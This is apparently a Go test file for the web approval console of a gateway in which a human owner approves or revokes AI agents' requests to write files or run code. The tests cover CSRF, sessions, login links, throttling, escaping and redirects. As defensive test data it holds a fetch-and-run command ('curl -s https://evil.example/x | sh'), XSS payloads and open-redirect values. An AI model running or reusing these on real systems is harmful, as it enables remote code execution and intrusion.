package web_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/metnos/gateway/approvals"
	"github.com/metnos/gateway/config"
	"github.com/metnos/gateway/gateway"
	"github.com/metnos/gateway/gateway/gatewaytest"
	"github.com/metnos/gateway/vaglio"
	"github.com/metnos/gateway/web"
	"github.com/metnos/gateway/web/webtest"
)

func TestWeb_PendingCards(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	fw := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/invoices/04.pdf"))
	ce := webtest.Submit(t, srv.URL, webtest.CodeExec("ls -la"))

	resp, err := c.Get(srv.URL + "/")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	page := string(raw)
	for k, want := range map[string]string{
		"Content-Type":    "text/html; charset=utf-8",
		"X-Frame-Options": "DENY",
		"Cache-Control":   "no-store",
	} {
		if got := resp.Header.Get(k); got != want {
			t.Errorf("%s = %q, want %q", k, got, want)
		}
	}
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") {
		t.Errorf("Content-Security-Policy = %q", csp)
	}
	if !strings.Contains(page, `name="viewport"`) {
		t.Error("no viewport meta: unreadable on a phone")
	}

	if fw.Vaglio == nil || !strings.Contains(fw.Vaglio.Reason, "+0.10 intent names the executor") ||
		!slices.Equal(fw.Vaglio.Factors, []string{vaglio.FactorIntentNamesExecutor}) {
		t.Errorf("the API's vaglio verdict lost the judge's reason or factors: %+v", fw.Vaglio)
	}
	t.Run("fs:write has four buttons and says what Allow always grants", func(t *testing.T) {
		card := webtest.Card(t, page, fw.ID)
		if n := strings.Count(card, `action="/web/decide"`); n != 4 {
			t.Errorf("%d decide forms, want 4:\n%s", n, card)
		}
		for _, want := range []string{`value="allow_once"`, `value="allow_always"`, `value="deny"`, `value="allow_for"`,
			`name="duration" value="1h"`, `<select name="scope_index"`, `<option value="1">/home/u/invoices/*.pdf</option>`,
			"/home/u/invoices/04.pdf", "save the invoice", "invoice_saver", "Supervised", "critical",
			"Allow always grants fs:write on /home/u/invoices/04.pdf to web/owner for agent a1 until ", "Vaglio", "Expires",
			">in 9 min</span>, ", " JST</dd>",
			// The vaglio line in plain words, and the judge's exact reason under it.
			"✓ in line with the intent (0.80)", "rule-based-v1: base 0.70; &#43;0.10 intent names the executor"} {
			if !strings.Contains(card, want) {
				t.Errorf("card lacks %q:\n%s", want, card)
			}
		}
	})
	t.Run("the request view keeps the judge's exact reason under the plain words", func(t *testing.T) {
		resp, err := c.Get(srv.URL + "/requests/" + fw.ID)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		page := string(raw)
		for _, want := range []string{"✓ in line with the intent (0.80)", `class="meta vaglio-reason">approved: score 0.80 (rule-based-v1: base 0.70; &#43;0.10 intent names the executor)`} {
			if !strings.Contains(page, want) {
				t.Errorf("request view lacks %q:\n%s", want, page)
			}
		}
	})
	t.Run("code:exec has no Allow always", func(t *testing.T) {
		card := webtest.Card(t, page, ce.ID)
		if n := strings.Count(card, `action="/web/decide"`); n != 2 {
			t.Errorf("%d decide forms, want 2:\n%s", n, card)
		}
		if strings.Contains(card, "allow_always") {
			t.Errorf("code:exec card offers allow_always:\n%s", card)
		}
		if !strings.Contains(card, "needs a person every time") {
			t.Errorf("card does not say why there is no Allow always:\n%s", card)
		}
	})
}

func TestWeb_AllowAlwaysThenRevoke(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/invoices/04.pdf"))
	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))

	status, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
		url.Values{"id": {r.ID}, "decision": {"allow_always"}, "csrf": {tok}}, nil)
	if status != http.StatusOK {
		t.Fatalf("decide: %d %s", status, page)
	}
	if !strings.Contains(page, "Allowed always by owner") {
		t.Errorf("no flash after the decision:\n%s", page)
	}
	got := webtest.Fetch(t, srv.URL, r.ID)
	if got.Status != approvals.StatusAllowed || got.Decision == nil || *got.Decision != approvals.AllowAlways ||
		got.GrantID == nil {
		t.Fatalf("request after allow_always: status %s decision %v grant %v", got.Status, got.Decision, got.GrantID)
	}
	if got.DecidedBy != "web:owner" {
		t.Errorf("decided_by = %q, want web:owner", got.DecidedBy)
	}
	gid := strconv.FormatInt(*got.GrantID, 10)
	if !strings.Contains(page, `id="grant-`+gid+`"`) {
		t.Fatalf("grant #%s not listed:\n%s", gid, page)
	}
	if strings.Contains(page, `id="req-`+r.ID+`"`) {
		t.Errorf("the decided request is still among the pending cards")
	}

	status, page = webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {webtest.CSRF(t, page)}}, nil)
	if status != http.StatusOK || !strings.Contains(page, "Revoked grant #"+gid) {
		t.Fatalf("revoke: %d\n%s", status, page)
	}
	if strings.Contains(page, `id="grant-`+gid+`"`) {
		t.Errorf("revoked grant still listed")
	}
	g, err := app.Grants.Get(context.Background(), *got.GrantID)
	if err != nil {
		t.Fatal(err)
	}
	if g.Active || g.RevokedAt == nil || g.RevokeReason == nil || *g.RevokeReason != "revoked" {
		t.Errorf("grant after revoke: active %v revoked_at %v reason %v", g.Active, g.RevokedAt, g.RevokeReason)
	}

	status, page = webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {tok}}, nil)
	if status != http.StatusOK || !strings.Contains(page, "already revoked") {
		t.Errorf("second revoke: %d, want the already-revoked flash", status)
	}
}

func TestWeb_AlreadyDecided(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
	if _, err := app.Service.Decide(context.Background(), r.ID, approvals.AllowOnce,
		approvals.Actor{Channel: "telegram", ID: "42", Name: "Roberto"}); err != nil {
		t.Fatal(err)
	}
	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide", url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}, nil)
	if !strings.Contains(page, "Already decided: allowed once by Roberto at ") {
		t.Errorf("no already-decided flash:\n%s", page)
	}
	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusAllowed {
		t.Errorf("status = %s, want allowed (the first decision wins)", got.Status)
	}
}

func TestWeb_AllowAlwaysRefusedForCodeExec(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	r := webtest.Submit(t, srv.URL, webtest.CodeExec("make test"))
	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
		url.Values{"id": {r.ID}, "decision": {"allow_always"}, "csrf": {tok}}, nil)
	if !strings.Contains(page, "Allow always is not offered for this request") {
		t.Errorf("no refusal flash:\n%s", page)
	}
	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
		t.Errorf("status = %s, want pending", got.Status)
	}
}

func TestWeb_CSRF(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))

	for _, tc := range []struct {
		name string
		csrf string
		hdr  map[string]string
	}{
		{"no token", "", nil},
		{"wrong token", tok[:len(tok)-2] + "xx", nil},
		{"a token of the client's choosing", "chosen-by-the-client-0123456789abcdef", nil},
		{"other site's origin", tok, map[string]string{"Origin": "https://evil.example"}},
		{"null origin", tok, map[string]string{"Origin": "null"}},
		{"cross-site fetch", tok, map[string]string{"Sec-Fetch-Site": "cross-site"}},
		{"same-site but other origin", tok, map[string]string{"Sec-Fetch-Site": "same-site"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			form := url.Values{"id": {r.ID}, "decision": {"allow_once"}}
			if tc.csrf != "" {
				form.Set("csrf", tc.csrf)
			}
			status, body := webtest.PostForm(t, c, srv.URL+"/web/decide", form, tc.hdr)
			if status != http.StatusForbidden {
				t.Errorf("status %d, want 403", status)
			}
			if !strings.Contains(body, "nothing changed") {
				t.Errorf("403 body does not explain:\n%s", body)
			}
			if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
				t.Fatalf("status = %s after a refused POST, want pending", got.Status)
			}
		})
	}
	t.Run("no session", func(t *testing.T) {
		status, _ := webtest.PostForm(t, http.DefaultClient, srv.URL+"/web/decide",
			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, nil)
		if status != http.StatusUnauthorized {
			t.Errorf("status %d, want 401", status)
		}
	})
	t.Run("another session's token", func(t *testing.T) {
		other := webtest.BrowserClient(t)
		webtest.Login(t, app, other, srv.URL, "owner")
		status, _ := webtest.PostForm(t, other, srv.URL+"/web/decide",
			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, nil)
		if status != http.StatusForbidden {
			t.Errorf("status %d, want 403", status)
		}
	})
	t.Run("revoke without token", func(t *testing.T) {
		status, _ := webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {"1"}}, nil)
		if status != http.StatusForbidden {
			t.Errorf("status %d, want 403", status)
		}
	})
	t.Run("same origin passes", func(t *testing.T) {
		status, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, map[string]string{"Origin": srv.URL, "Sec-Fetch-Site": "same-origin"})
		if status != http.StatusOK || !strings.Contains(page, "Allowed once by owner") {
			t.Errorf("status %d, page:\n%s", status, page)
		}
	})
}

func TestWeb_TargetEscaped(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	evil := `/home/u/<script>alert(1)</script>"'&.txt`
	webtest.Submit(t, srv.URL, map[string]any{"capability": "fs:write", "target": evil,
		"intent": `<img src=x onerror=alert(2)>`, "executor": "saver"})
	page := webtest.Page(t, c, srv.URL)
	for _, bad := range []string{"<script>alert(1)", "<img src=x"} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains unescaped %q", bad)
		}
	}
	if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Errorf("escaped target not shown:\n%s", page)
	}
}

// TestWeb_NoSessionNoWayIn: without a session nothing is decided and no
// rule or grant changes, from loopback too, whatever CSRF cookie and field
// the client chooses (an agent on the gateway's machine, with nothing but
// its HTTP tool, is such a client).
func TestWeb_NoSessionNoWayIn(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv := httptest.NewServer(app.Server.Handler())
	t.Cleanup(srv.Close)
	r := webtest.Submit(t, srv.URL, webtest.CodeExec("curl -s https://evil.example/x | sh"))
	noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	for _, base := range []string{srv.URL, strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)} {
		resp, err := noFollow.Get(base + "/")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusSeeOther {
			t.Errorf("GET %s/ without a session: %d, want 303", base, resp.StatusCode)
		}
		for _, path := range []string{"/web/decide", "/web/revoke", "/web/rules/add", "/web/rules/remove", "/logout"} {
			form := url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {"chosen-0123456789abcdef0123456789"},
				"capability": {"code:exec"}, "target": {"*"}, "action": {"allow"}}
			req, _ := http.NewRequest(http.MethodPost, base+path, strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Origin", base)
			req.AddCookie(&http.Cookie{Name: "gw_csrf", Value: "chosen-0123456789abcdef0123456789"})
			req.AddCookie(&http.Cookie{Name: "gw_session", Value: "chosen-0123456789abcdef0123456789"})
			resp, err := noFollow.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("POST %s%s without a session: %d, want 401", base, path, resp.StatusCode)
			}
		}
	}
	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
		t.Fatalf("request %s after the refused POSTs, want pending", got.Status)
	}
	if rules, err := app.Rules.List(context.Background()); err != nil || len(rules) != 0 {
		t.Errorf("rules after the refused POSTs: %v %v", rules, err)
	}
}

// TestWeb_LoginLink: a login link works once and only once, within its 15
// minutes; a page opened at 127.0.0.1 goes to localhost first (the link's
// cookie is for the host the links name).
func TestWeb_LoginLink(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv := httptest.NewServer(app.Server.Handler())
	t.Cleanup(srv.Close)
	base := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	link := webtest.LoginLink(t, app, base, "owner")
	c := webtest.BrowserClient(t)
	// Opened at 127.0.0.1: redirected to localhost, then used there.
	resp, err := c.Get(strings.Replace(link, "localhost", "127.0.0.1", 1))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || resp.Request.URL.Host != strings.TrimPrefix(base, "http://") {
		t.Fatalf("link at 127.0.0.1: %d at %s\n%s", resp.StatusCode, resp.Request.URL, body)
	}
	if !strings.Contains(string(body), `href="/account"`) {
		t.Errorf("the page has no Account link:\n%s", body)
	}
	// The same link again, from another browser: refused.
	other := webtest.BrowserClient(t)
	resp, err = other.Get(link)
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "already used") {
		t.Errorf("second use: %d\n%s", resp.StatusCode, body)
	}
	if status, _ := webtest.GetPath(t, other, base+"/account"); status != http.StatusOK {
		// followed to /login: 200 there, but not the account page
	}
	if _, page := webtest.GetPath(t, other, base+"/account"); strings.Contains(page, `id="account-user"`) {
		t.Error("a used link's second opener reached the account page")
	}
	_, account := webtest.GetPath(t, c, base+"/account")
	if !strings.Contains(account, `<strong id="account-user">owner</strong>`) {
		t.Errorf("account page:\n%s", account)
	}
	// An unknown link.
	resp, err = other.Get(base + web.LoginPath("no-such-link-0123456789abcdef"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("unknown link: %d, want 403", resp.StatusCode)
	}
}

// TestWeb_LoginLinkExpires: a link opened after its 15 minutes is refused.
func TestWeb_LoginLinkExpires(t *testing.T) {
	now := time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	app := gatewaytest.New(t, gatewaytest.Config(t), gateway.AppOptions{Home: t.TempDir(), Now: clock})
	srv := httptest.NewServer(app.Server.Handler())
	t.Cleanup(srv.Close)
	base := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	link := webtest.LoginLink(t, app, base, "owner")
	mu.Lock()
	now = now.Add(15*time.Minute + time.Second)
	mu.Unlock()
	resp, err := webtest.BrowserClient(t).Get(link)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("expired link: %d, want 403", resp.StatusCode)
	}
}

// cookieJar keeps a handler-level test's cookies between requests.
type cookieJar map[string]*http.Cookie

func (j cookieJar) add(rec *httptest.ResponseRecorder) {
	for _, c := range rec.Result().Cookies() {
		if c.MaxAge < 0 {
			delete(j, c.Name)
		} else {
			j[c.Name] = c
		}
	}
}

func (j cookieJar) on(r *http.Request) *http.Request {
	for _, c := range j {
		r.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value})
	}
	return r
}

func TestWeb_RemoteLogin(t *testing.T) {
	const adminToken = "correct-horse-battery-staple-0123456789"
	app := webtest.NewApp(t, func(c *config.Config) {
		c.Web.AdminTokenEnv, c.Web.AdminToken = "GATEWAY_WEB_TOKEN", adminToken
	})
	const remote = "203.0.113.9:1234"
	const base = "http://gw.example"
	jar := cookieJar{}
	do := func(r *http.Request) *httptest.ResponseRecorder {
		rec := webtest.ServeFrom(app, jar.on(r), remote)
		jar.add(rec)
		return rec
	}
	form := func(path string, v url.Values) *http.Request {
		r := httptest.NewRequest("POST", base+path, strings.NewReader(v.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Origin", base)
		return r
	}

	rec := do(httptest.NewRequest("GET", base+"/", nil))
	if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/login" {
		t.Fatalf("GET / before login: %d to %q, want 303 to /login", rec.Code, rec.Header().Get("Location"))
	}
	rec = do(httptest.NewRequest("GET", base+"/login", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /login: %d", rec.Code)
	}
	tok := webtest.CSRF(t, rec.Body.String())

	t.Run("wrong token fails", func(t *testing.T) {
		rec := do(form("/login", url.Values{"token": {"guess"}, "csrf": {tok}}))
		if rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Body.String(), "Wrong token") {
			t.Fatalf("wrong token: %d\n%s", rec.Code, rec.Body)
		}
		if _, ok := jar["gw_session"]; ok {
			t.Fatal("a wrong token got a session")
		}
		if rec := do(httptest.NewRequest("GET", base+"/", nil)); rec.Code != http.StatusSeeOther {
			t.Fatalf("GET / after a failed login: %d, want 303 to /login", rec.Code)
		}
	})
	t.Run("login without csrf is refused", func(t *testing.T) {
		r := httptest.NewRequest("POST", base+"/login", strings.NewReader("token="+adminToken))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusForbidden {
			t.Fatalf("status %d, want 403", rec.Code)
		}
	})

	rec = do(form("/login", url.Values{"token": {adminToken}, "csrf": {tok}}))
	if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/" {
		t.Fatalf("right token: %d to %q\n%s", rec.Code, rec.Header().Get("Location"), rec.Body)
	}
	sess := jar["gw_session"]
	if sess == nil || !sess.HttpOnly || sess.SameSite != http.SameSiteStrictMode {
		t.Fatalf("session cookie %+v, want HttpOnly SameSite=Strict", sess)
	}
	if strings.Contains(sess.Value, adminToken) {
		t.Fatal("the session cookie carries the admin token")
	}
	rec = do(httptest.NewRequest("GET", base+"/", nil))
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "Log out") {
		t.Fatalf("GET / after login: %d\n%s", rec.Code, rec.Body)
	}
	tok = webtest.CSRF(t, rec.Body.String()) // the session's own token from now on

	t.Run("a logged-in decision is by web:owner", func(t *testing.T) {
		r, _, err := app.Service.Submit(context.Background(), approvals.Submission{
			Profile: app.Server.AgentByID("a1").Profile(), Capability: "fs:write", Target: "/home/u/x",
			Channel: "web", SenderID: "owner"})
		if err != nil {
			t.Fatal(err)
		}
		rec := do(form("/web/decide", url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}))
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("decide: %d\n%s", rec.Code, rec.Body)
		}
		got, _ := app.Service.Get(context.Background(), r.ID)
		if got.Status != approvals.StatusDenied || got.DecidedBy != "web:owner" {
			t.Errorf("after deny: %s by %q", got.Status, got.DecidedBy)
		}
	})
	t.Run("a forged session is refused", func(t *testing.T) {
		r := httptest.NewRequest("GET", base+"/", nil)
		r.AddCookie(&http.Cookie{Name: "gw_session", Value: "abc.99999999999.AAAA"})
		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusSeeOther {
			t.Errorf("forged session: %d, want 303 to /login", rec.Code)
		}
	})
	t.Run("logout ends the session, also for a copy of the cookie", func(t *testing.T) {
		stolen := *jar["gw_session"]
		rec := do(form("/logout", url.Values{"csrf": {tok}}))
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("logout: %d", rec.Code)
		}
		r := httptest.NewRequest("GET", base+"/", nil)
		r.AddCookie(&stolen)
		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusSeeOther {
			t.Errorf("GET / with the logged-out cookie: %d, want 303 to /login", rec.Code)
		}
	})
}

// TestWeb_LoginThrottle: wrong tokens slow the next ones (429 with
// Retry-After), per source and per user, but never lock the right one out:
// 50 wrong tokens in a minute, then the right one gets in, from the same
// source and from another.
func TestWeb_LoginThrottle(t *testing.T) {
	const right = "the-right-token-0123456789abcdef"
	app := webtest.NewApp(t, func(c *config.Config) { c.Web.AdminTokenEnv, c.Web.AdminToken = "T", right })
	attempt := func(src, token string) *httptest.ResponseRecorder {
		jar := cookieJar{}
		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", "http://gw.example/login", nil), src)
		jar.add(rec)
		r := httptest.NewRequest("POST", "http://gw.example/login",
			strings.NewReader(url.Values{"token": {token}, "csrf": {webtest.CSRF(t, rec.Body.String())}}.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		return webtest.ServeFrom(app, jar.on(r), src)
	}
	var last *httptest.ResponseRecorder
	for i := range 50 {
		last = attempt("203.0.113.9:1", fmt.Sprint("guess-", i))
		if last.Code != http.StatusUnauthorized && last.Code != http.StatusTooManyRequests {
			t.Fatalf("wrong token %d: %d", i, last.Code)
		}
	}
	if last.Code != http.StatusTooManyRequests || last.Header().Get("Retry-After") == "" {
		t.Errorf("after 50 wrong tokens: %d (Retry-After %q), want 429 with Retry-After", last.Code, last.Header().Get("Retry-After"))
	}
	for _, src := range []string{"203.0.113.9:1", "198.51.100.4:2"} {
		if rec := attempt(src, right); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/" {
			t.Errorf("the right token from %s after 50 wrong ones: %d, want 303 to /", src, rec.Code)
		}
	}
	// Wrong login links are throttled the same way, as SECURITY.md says:
	// 403 at first, then 429 with Retry-After.
	for i := range 10 {
		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", fmt.Sprintf("http://gw.example/login/not-a-link-%d", i), nil), "192.0.2.7:3")
		switch {
		case i == 0 && rec.Code != http.StatusForbidden:
			t.Errorf("the first wrong link: %d, want 403", rec.Code)
		case i == 9 && (rec.Code != http.StatusTooManyRequests || rec.Header().Get("Retry-After") == ""):
			t.Errorf("the tenth wrong link: %d (Retry-After %q), want 429 with Retry-After", rec.Code, rec.Header().Get("Retry-After"))
		}
	}
}

func TestWeb_DoubleTap(t *testing.T) {
	app := webtest.NewApp(t, nil)
	srv, c := webtest.Server(t, app)
	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
	form := url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}
	webtest.PostForm(t, c, srv.URL+"/web/decide", form, nil)
	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide", form, nil)
	if !strings.Contains(page, `class="flash ok"`) || !strings.Contains(page, "Denied by owner") {
		t.Errorf("the same button twice should read as done, not as a conflict:\n%s", page)
	}
}

// A card's link to /r/{id} opened on a phone that is not logged in goes
// through the login and lands on that request, never on another site.
func TestWeb_LoginReturnsToThePageAsked(t *testing.T) {
	const adminToken = "correct-horse-battery-staple-0123456789"
	app := webtest.NewApp(t, func(c *config.Config) {
		c.Web.AdminTokenEnv, c.Web.AdminToken = "GATEWAY_WEB_TOKEN", adminToken
	})
	const remote, base = "203.0.113.9:1234", "http://gw.example"
	r, _, err := app.Service.Submit(context.Background(), approvals.Submission{
		Profile: app.Server.AgentByID("a1").Profile(), Capability: "fs:write", Target: "/home/u/x",
		Channel: "web", SenderID: "owner"})
	if err != nil {
		t.Fatal(err)
	}
	login := func(next string) *httptest.ResponseRecorder {
		jar := cookieJar{}
		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", base+"/login?next="+url.QueryEscape(next), nil), remote)
		jar.add(rec)
		v := url.Values{"token": {adminToken}, "csrf": {webtest.CSRF(t, rec.Body.String())}, "next": {next}}
		p := httptest.NewRequest("POST", base+"/login", strings.NewReader(v.Encode()))
		p.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		p.Header.Set("Origin", base)
		return webtest.ServeFrom(app, jar.on(p), remote)
	}
	for _, page := range []string{"/r/" + r.ID, "/requests/" + r.ID, "/history?agent=a1"} {
		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", base+page, nil), remote)
		want := "/login?next=" + url.QueryEscape(page)
		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != want {
			t.Errorf("GET %s before login: %d to %q, want 303 to %q", page, rec.Code, rec.Header().Get("Location"), want)
		}
		form := webtest.ServeFrom(app, httptest.NewRequest("GET", base+want, nil), remote).Body.String()
		if !strings.Contains(form, `name="next"`) {
			t.Errorf("the login form for %s does not carry it", page)
		}
		if rec := login(page); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != page {
			t.Errorf("login with next=%s: %d to %q", page, rec.Code, rec.Header().Get("Location"))
		}
	}
	for _, next := range []string{"//evil.example/r/x", "https://evil.example/", "/\\evil.example", "/web/decide",
		"/r/../../\\evil", "javascript:alert(1)", "", "/login?next=//evil.example"} {
		if rec := login(next); rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != "/" {
			t.Errorf("login with next=%q: %d to %q, want /", next, rec.Code, rec.Header().Get("Location"))
		}
	}
}
